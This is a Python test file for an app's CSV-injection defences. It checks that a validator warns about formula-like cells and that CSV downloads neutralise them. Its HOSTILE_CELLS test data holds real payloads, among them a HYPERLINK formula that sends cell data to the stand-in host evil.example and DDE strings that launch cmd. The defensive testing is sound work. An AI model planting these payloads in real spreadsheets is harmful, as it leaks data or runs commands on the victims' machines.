"""CSV injection (OWASP): a cell that a spreadsheet would run as a formula is named by the
validator in any table of any bundle, quoted in the app's CSV downloads, and never written by
the drafting engine, whatever the page says."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from components import data
from core.archive import bundle_zip, read_bundle_zip
from core.bundle import load_bundle, load_bundle_files
from core.files import spreadsheet_csv
from core.text import spreadsheet_cell, starts_like_formula
from core.vocabulary import FORMULA_STARTS
from tests.helpers import FIXTURES, copy_mini

HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
                 "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1"]  # fmt: skip


@pytest.mark.parametrize(
    ("cell", "formula"),
    [("=1+2", True), ("+x", True), ("-x", True), ("@x", True), ("\tx", True), ("\rx", True),
     ("  =x", True), ("\n@x", True), ("x=1", False), ("", False), ("'=1", False), ("Alpha", False),
     ("2021-03", False), ("ali-khamenei", False), ("−2 (a minus sign, not a hyphen)", False)],
)  # fmt: skip
def test_a_formula_is_told_by_its_first_character(cell, formula):
    assert starts_like_formula(cell) is formula
    assert spreadsheet_cell(cell) == ("'" + cell if formula else cell)


def _csv(rows) -> bytes:
    out = io.StringIO()
    # Line ends that the writer quotes when a cell holds one, as a spreadsheet writes them.
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    return out.getvalue().encode()


def _hostile_mini(tmp_path):
    """The fixture bundle with a formula in a free-text cell of every table."""
    folder = copy_mini(tmp_path)
    edits = {
        "actors.csv": ("A leader", '"' + HOSTILE_CELLS[0].replace('"', '""') + '"'),
        "groups.csv": ("Alpha's side", '"' + HOSTILE_CELLS[1].replace('"', '""') + '"'),
        "events.csv": ("Alpha meets Beta,,", "Alpha meets Beta,-2+3,"),
        "teasers.csv": ("gamma-news,Related,", "gamma-news,@SUM(1+1),"),
    }
    for name, (old, new) in edits.items():
        path = folder / name
        path.write_text(path.read_text(encoding="utf-8").replace(old, new, 1), encoding="utf-8")
    (folder / "glossary.csv").write_bytes(
        _csv([("term", "aliases", "definition", "reference"), ("Accord", "", "\t=1+1", "")])
    )
    (folder / "notes.csv").write_bytes(
        _csv(
            [
                ("id", "quote", "kind", "note", "reference"),
                ("n1", "Alpha met Beta", "context", " =1+1", "https://example.org/"),
            ]
        )  # fmt: skip
    )
    return folder


def test_the_validator_warns_of_formula_cells_in_every_table_and_still_opens(tmp_path):
    _hostile_mini(tmp_path)
    bundle = load_bundle(tmp_path, "mini")
    formulas = [p for p in bundle.warnings if "formula" in p.expected]
    assert {(p.file, p.line, p.field) for p in formulas} == {
        ("actors.csv", 2, "description"),
        ("groups.csv", 2, "description"),
        ("events.csv", 2, "summary"),
        ("teasers.csv", 2, "kicker"),
        ("glossary.csv", 2, "definition"),
        ("notes.csv", 2, "note"),
    }
    assert all(p.severity == "warning" for p in formulas)
    shown = str(next(p for p in formulas if p.file == "actors.csv"))
    assert shown.startswith("actors.csv:2: description '=HYPERLINK(")
    assert "=, +, -, @, a tab or a carriage return" in shown


def test_the_bundled_and_fixture_bundles_have_no_formula_cells():
    assert not [p for p in load_bundle(FIXTURES, "mini").warnings if "formula" in p.expected]
    slug = data.articles()[0]
    assert not [p for p in data.bundle(slug).warnings if "formula" in p.expected]


def test_the_csv_downloads_quote_formula_cells_and_the_zip_keeps_the_bundles_bytes(
    tmp_path, monkeypatch
):
    folder = _hostile_mini(tmp_path)
    monkeypatch.setattr(data, "ARTICLES_ROOT", tmp_path)
    actors = list(csv.reader(io.StringIO(data.spreadsheet_table("mini", "actors.csv").decode())))
    assert actors[1][6] == "'" + HOSTILE_CELLS[0]
    assert actors[1][:6] == ["alpha", "Alpha", "person", "Leader", "hawks", "Alpha"]
    events = data.spreadsheet_table("mini", "events.csv").decode()
    assert ",'-2+3," in events and not any(starts_like_formula(c) for c in _cells(events))
    # The zip is the bundle itself, byte for byte, so that importing it gives the same bundle.
    unpacked = read_bundle_zip(data.bundle_zip("mini"))
    assert unpacked.files["actors.csv"] == (folder / "actors.csv").read_bytes()


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


cells = st.text(st.characters(blacklist_categories=("Cs",)), max_size=12)
starts = st.sampled_from(["", *FORMULA_STARTS, " ", " =", "'"])
rows = st.lists(st.lists(st.builds(str.__add__, starts, cells), min_size=3, max_size=3),
                min_size=1, max_size=6)  # fmt: skip


@given(rows)
def test_a_spreadsheet_table_guards_every_formula_cell_and_changes_nothing_else(table):
    original = _cells(_csv(table).decode())
    guarded = _cells(spreadsheet_csv(_csv(table)).decode())
    normalised = [c.replace("\r\n", "\n").replace("\r", "\n") for c in original]
    assert len(guarded) == len(normalised)
    for before, after in zip(normalised, guarded, strict=True):
        assert not starts_like_formula(after)
        assert after in (before, "'" + before)


def test_a_round_trip_through_a_zip_keeps_a_formula_cell_and_its_warning(tmp_path):
    folder = _hostile_mini(tmp_path)
    files = {path.name: path.read_bytes() for path in folder.iterdir()}
    unpacked = read_bundle_zip(bundle_zip(files, "mini"))
    warned = load_bundle_files("mini", unpacked.files).warnings
    assert sum("formula" in p.expected for p in warned) == 6
